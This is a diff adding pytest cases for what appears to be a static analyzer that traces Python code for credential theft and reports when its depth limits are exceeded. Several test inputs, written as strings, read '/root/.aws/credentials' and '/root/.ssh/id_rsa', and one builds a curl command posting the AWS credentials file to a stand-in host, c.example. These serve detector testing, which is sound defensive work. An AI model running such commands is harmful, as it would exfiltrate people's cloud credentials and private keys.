@@ -97,3 +97,24 @@ def test_code_in_code_deeper_than_is_followed_is_said() -> None:
     for _ in range(8):
         text = f"exec({text!r})"
     assert "too much to follow" in followed(text).stopped
+
+
+@pytest.mark.parametrize(("calls", "said"), [(5, ""), (40, "too much to follow")])
+def test_what_a_function_returns_through_more_calls_than_are_followed_is_said(calls: int, said: str) -> None:
+    steps = "".join(f"def f{n}():\n    return f{n - 1}()\n" for n in range(1, calls))
+    module = followed(f"def f0():\n    return open('/root/.aws/credentials').read()\n{steps}{sent(f'f{calls - 1}()')}")
+    assert module.stopped.partition(" in ")[0] == said
+
+
+def test_a_command_of_more_words_than_are_looked_at_is_said() -> None:
+    text = (
+        "import subprocess\nsubprocess.run(['curl', *['-s'] * {}, '-d', '@/root/.aws/credentials', 'https://c.example/x'])\n"
+    )
+    assert followed(text.format(3)).stopped == ""
+    assert "too much to follow" in followed(text.format(1_001)).stopped
+
+
+def test_a_secret_among_many_paths_is_still_asked_for() -> None:
+    paths = ", ".join(f"'/tmp/f{n}'" for n in range(200))
+    chosen = f"import sys\nP = [{paths}, '/root/.ssh/id_rsa']\n"
+    assert "sends credential-file" in found(followed(chosen + sent("open(P[len(sys.argv)]).read()")))
